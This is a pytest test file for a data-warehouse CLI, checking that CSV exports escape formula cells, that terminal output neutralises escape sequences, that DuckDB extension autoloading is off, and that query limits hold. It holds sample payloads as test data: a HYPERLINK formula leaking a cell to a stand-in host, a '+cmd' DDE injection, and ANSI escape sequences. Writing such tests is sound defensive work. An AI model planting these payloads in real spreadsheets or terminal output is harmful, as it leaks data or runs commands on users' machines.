"""Output channels carry page text safely: CSV formulas escaped, terminals shown escapes, DuckDB
never loads an extension by itself, analyst queries bounded in time and memory."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from crosscheck.warehouse import (
    QueryError,
    export,
    format_csv,
    format_table,
    open_warehouse,
    run_query,
)
from crosscheck.warehouse.safety import csv_cell, terminal_text

from crosscheck.cli import main
from tests.warehouse.test_support import C_TABLE, loaded, make_bundle

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
ANSI = "Flask\x1b[2J\x1b]0;owned\x07 \x9b31m"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "w.duckdb"
    con = loaded(path, make_bundle("r1"))
    con.execute(
        "UPDATE claims SET label = ?, entity_raw = ? WHERE claim_id = ?",
        [FORMULA, ANSI, C_TABLE["claim_id"]],
    )
    con.close()
    return path


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        ("-0.25", "-0.25"),
        ("~2,500 req/s", "~2,500 req/s"),
        ("", ""),
    ],
)
def test_csv_cell_escapes_formulas_but_not_numbers(cell: str, shown: str) -> None:
    assert csv_cell(cell) == shown


def test_csv_export_escapes_formula_cells_unless_raw(db: Path) -> None:
    with open_warehouse(db, read_only=True) as con:
        safe = list(csv.DictReader(io.StringIO(export(con, "claims", "csv") or "")))
        raw = list(csv.DictReader(io.StringIO(export(con, "claims", "csv", raw=True) or "")))
    row = next(r for r in safe if r["claim_id"] == C_TABLE["claim_id"])
    assert row["label"] == "'" + FORMULA
    raw_row = next(r for r in raw if r["claim_id"] == C_TABLE["claim_id"])
    assert raw_row["label"] == FORMULA
    assert not any(v.startswith(("=", "+", "@")) for r in safe for v in r.values())


def test_terminal_text_shows_escapes_instead_of_sending_them() -> None:
    shown = terminal_text(ANSI)
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert shown == "Flask\\x1b[2J\\x1b]0;owned\\x07 \\x9b31m"
    assert terminal_text("a\u202eb") == "a\\u202eb"  # a right-to-left override
    assert terminal_text("line\nnext", keep_newlines=True) == "line\nnext"


def test_query_output_escapes_control_characters(db: Path) -> None:
    result = run_query(db, "SELECT entity_raw, label FROM claims WHERE entity_raw LIKE 'Flask%'")
    for text in (format_table(result, max_width=200), format_csv(result)):
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
        assert "\\x1b[2J" in text
    assert "'=HYPERLINK" in format_csv(result)
    raw_rows = list(csv.reader(io.StringIO(format_csv(result, raw=True))))
    assert [ANSI, FORMULA] in raw_rows


def test_cli_query_prints_no_escape_sequence(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sql = "SELECT entity_raw, label FROM claims"
    assert main(["query", sql, "--db", str(db)]) == 0
    assert main(["query", sql, "--db", str(db), "--csv"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[2J" in out and "'=HYPERLINK" in out


def test_cli_export_csv_escapes_formulas_unless_raw(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "claims", "--db", str(db), "--format", "csv"]) == 0
    labels = [r["label"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out))]
    assert "'" + FORMULA in labels
    assert main(["export", "claims", "--db", str(db), "--format", "csv", "--raw"]) == 0
    labels = [r["label"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out))]
    assert FORMULA in labels


def test_every_connection_has_extension_autoloading_off(db: Path) -> None:
    for read_only in (True, False):
        with open_warehouse(db, read_only=read_only) as con:
            settings = con.execute(
                "SELECT current_setting('autoinstall_known_extensions'),"
                " current_setting('autoload_known_extensions')"
            ).fetchone()
            assert settings == (False, False)


def test_a_foreign_file_at_db_is_refused_without_loading_an_extension(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    foreign = tmp_path / "notes.db"
    foreign.write_bytes(b"SQLite format 3\x00" + bytes(4080))
    code = main(["query", "SELECT 1", "--db", str(foreign)])
    err = capsys.readouterr().err
    assert code in (2, 3) and err.startswith("crosscheck: ")
    assert "Traceback" not in err


def test_a_query_past_its_time_limit_is_stopped(db: Path) -> None:
    slow = "SELECT count(*) FROM range(10000000000) a, range(1000) b WHERE a.range * b.range = -1"
    with pytest.raises(QueryError, match=r"time limit of 0\.3 s"):
        run_query(db, slow, timeout=0.3)


def test_a_query_past_its_memory_limit_fails_with_the_limit_named(db: Path) -> None:
    hungry = "SELECT list(range) FROM range(20000000)"
    with pytest.raises(QueryError, match="memory"):
        run_query(db, hungry, memory_limit="20MB")


def test_a_query_returns_at_most_max_rows_and_says_so(db: Path) -> None:
    result = run_query(db, "SELECT * FROM range(50)", max_rows=10)
    assert len(result.rows) == 10 and result.truncated
    assert format_table(result).endswith("(10 rows; more rows exist: raise --max-rows)")
    whole = run_query(db, "SELECT * FROM range(10)", max_rows=10)
    assert len(whole.rows) == 10 and not whole.truncated


def test_cli_query_max_rows(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "SELECT * FROM range(20)", "--db", str(db), "--max-rows", "5"]) == 0
    captured = capsys.readouterr()
    assert "(5 rows; more rows exist" in captured.out
    assert "only the first 5 rows were printed" in captured.err


@pytest.mark.parametrize(("timeout", "memory"), [(0, "1GB"), (-1, "1GB"), (5, "lots")])
def test_bad_query_limits_are_refused(db: Path, timeout: float, memory: str) -> None:
    with pytest.raises(QueryError):
        run_query(db, "SELECT 1", timeout=timeout, memory_limit=memory)


def test_empty_query_is_a_usage_error(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "  ", "--db", str(db)]) == 2
    assert "empty query" in capsys.readouterr().err
